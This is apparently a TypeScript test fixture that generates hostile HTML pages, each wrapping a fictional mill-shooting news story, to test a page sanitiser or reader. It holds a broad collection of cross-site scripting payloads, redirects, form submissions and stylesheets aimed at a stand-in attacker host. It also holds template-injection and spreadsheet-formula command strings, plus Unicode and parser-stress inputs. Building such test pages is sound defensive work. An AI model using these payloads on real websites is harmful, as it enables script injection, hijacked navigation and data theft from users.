/** Pages that mean harm, each in one way. Each tells of two dead at a mill, so that it comes into every view, and calls `alert` or asks another host where it succeeds. */

const EVIL = "https://evil.invalid";
const STORY = "Two people were shot dead at a mill in Ostrel on Tuesday, police said. “We saw it,” said Dana Ferro, a miller. The ministry denied that anyone was killed.";

interface Attack {
  readonly name: string;
  readonly html: string;
}

interface Parts {
  readonly title?: string;
  readonly head?: string;
  readonly before?: string;
  readonly story?: string;
  readonly after?: string;
}

let many = 0;

function attack(name: string, { title = "Two shot dead at Ostrel mill", head = "", before = "", story = STORY, after = "" }: Parts): Attack {
  many += 1;
  return {
    name: `${name}.html`,
    html: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title><meta property="og:site_name" content="Sentinel ${many}">
      <meta property="article:published_time" content="2025-04-02">${head}</head><body>${before}<article><h1>${title}</h1><p>${story}</p><p>It was the ${many}th shooting of the year.</p>${after}</article></body></html>`,
  };
}

const escaped = (html: string): string => html.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
const IMAGE = `<img src=x onerror=alert(1)>`;

export const ATTACKS: readonly Attack[] = [
  attack("script", { head: "<script>alert('head')</script>", after: "<script src='data:text/javascript,alert(1)'></script><script type=module>alert(2)</script>" }),
  attack("handlers", { after: `${IMAGE}<details open ontoggle=alert(1)>x</details><video><source onerror=alert(2)></video><marquee onstart=alert(3)>m</marquee>` }),
  attack("autofocus", { after: "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(2)></select><textarea autofocus onfocus=alert(3)></textarea>" }),
  attack("svg", { after: `<svg onload=alert(1)><script>alert(2)</script><animate onbegin=alert(3) attributeName=x></animate><foreignObject>${IMAGE}</foreignObject><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(4)</script></svg>#x"></use></svg>` }),
  attack("mathml", { after: `<math><mtext><table><mglyph><style><!--</style>${IMAGE}</mglyph></table></mtext><maction actiontype="statusline#${EVIL}" href="javascript:alert(1)">m</maction></math>` }),
  attack("links", { story: `<a href="javascript:alert(1)">${STORY}</a> <a href=" java&#10;script:alert(2)">again</a> <a href="data:text/html,<script>alert(3)</script>">data</a> <a href="vbscript:alert(4)">vb</a>` }),
  attack("frames", { after: `<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(2)</script>"></iframe><object data="javascript:alert(3)"></object><embed src="data:text/html,<script>alert(4)</script>"><frameset onload=alert(5)>` }),
  attack("refresh", { head: `<meta http-equiv="refresh" content="0;url=${EVIL}"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">` }),
  attack("base", { head: `<base href="${EVIL}/" target="_top">`, after: `<a href="/accounts">accounts</a><img src="pixel.png">` }),
  attack("policy", { head: `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline' 'unsafe-eval'"><script>alert(1)</script>` }),
  attack("forms", { after: `<form action="${EVIL}" id=f><input name=q><button formaction="javascript:alert(1)">Send</button></form><script>document.forms[0].submit()</script>` }),
  attack("styles", { head: `<link rel=stylesheet href="${EVIL}/x.css"><style>@import url(${EVIL}/y.css);body{display:none!important;background:url(${EVIL}/z.png)}#view,.shell-head{display:none!important}*{position:fixed!important;inset:0;z-index:99999}</style>`, story: `<span style="position:fixed;inset:0;background:url(${EVIL}/s.png)">${STORY}</span>` }),
  attack("clobbering", { before: `<form id=getElementById><input name=body></form><a id=view></a><div id=take-menu></div><img name=documentElement>`, story: `<b id="view">${STORY}</b>` }),
  attack("escaped", { title: `Two shot ${escaped(IMAGE)} &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;`, story: `${STORY} “${escaped("<script>alert(2)</script>")},” said ${escaped(IMAGE)} Ferro. ${escaped('"><svg onload=alert(3)>')}` }),
  attack("attributes", { head: `<meta name="author" content="&quot;onmouseover=alert(1) x=&quot;"><meta property="og:site_name" content="&quot;&gt;&lt;img src=x onerror=alert(2)&gt;"><link rel=canonical href="javascript:alert(3)">` }),
  attack("json", { head: `<script type="application/ld+json">{"@type":"NewsArticle","headline":"</scr\\u0069pt><img src=x onerror=alert(1)>","author":{"name":"<svg onload=alert(2)>"},"url":"javascript:alert(3)"}</script>` }),
  attack("comments", { before: `<!--><script>alert(1)</script><!-- --!><img src=x onerror=alert(2)>`, after: `<noscript><p title="</noscript>${IMAGE}"></noscript><template>${IMAGE}</template><xmp>${IMAGE}</xmp><plaintext>${IMAGE}` }),
  attack("giant-title", { title: `Two shot ${"very ".repeat(20_000)}dead` }),
  attack("giant-word", { title: `Two shot at ${"Ostrel".repeat(3000)}`, story: `${STORY} “${"a".repeat(20_000)},” said ${"F".repeat(4000)}.` }),
  attack("control", { title: "Two\u0000 shot\u0007 \u001b[31mdead\u001b[0m\u007f\u0085", story: `${STORY} “No\u0008\u0008 one\u000c was shot,” \u0001said\u0002 the \u001b]0;owned\u0007ministry.` }),
  attack("bidi", { title: "Two shot \u202egnp.exe\u202c \u2066\u2067dead\u2069", story: `${STORY} \u202eA spokesman denied it: “No one was shot,” he said. \u2067\u2067\u2067 never closed` }),
  attack("combining", { title: `Two shot dead${"\u0301\u0323\u0489".repeat(400)}`, story: `${STORY} “Z${"\u0300".repeat(2000)}algo,” said Ferro\u200b\u200d\ufeff\u00ad.` }),
  attack("surrogates", { title: "Two shot &#xD800;&#xDFFF;&#x110000;&#0; dead \ufffe\uffff", story: `${STORY} 🏴\u{E0067}\u{E007F}👩‍👩‍👧‍👧 &#xD83D;` }),
  attack("deep", { before: "<div>".repeat(5000), after: "</div>".repeat(5000) }),
  attack("template-words", { title: "Two shot ${alert(1)} {{constructor.constructor('alert(2)')()}} #{7*7} %s %n", story: `${STORY} “{{7*7}} \${alert(3)},” said Ferro. =cmd|'/c calc'!A1` }),
];
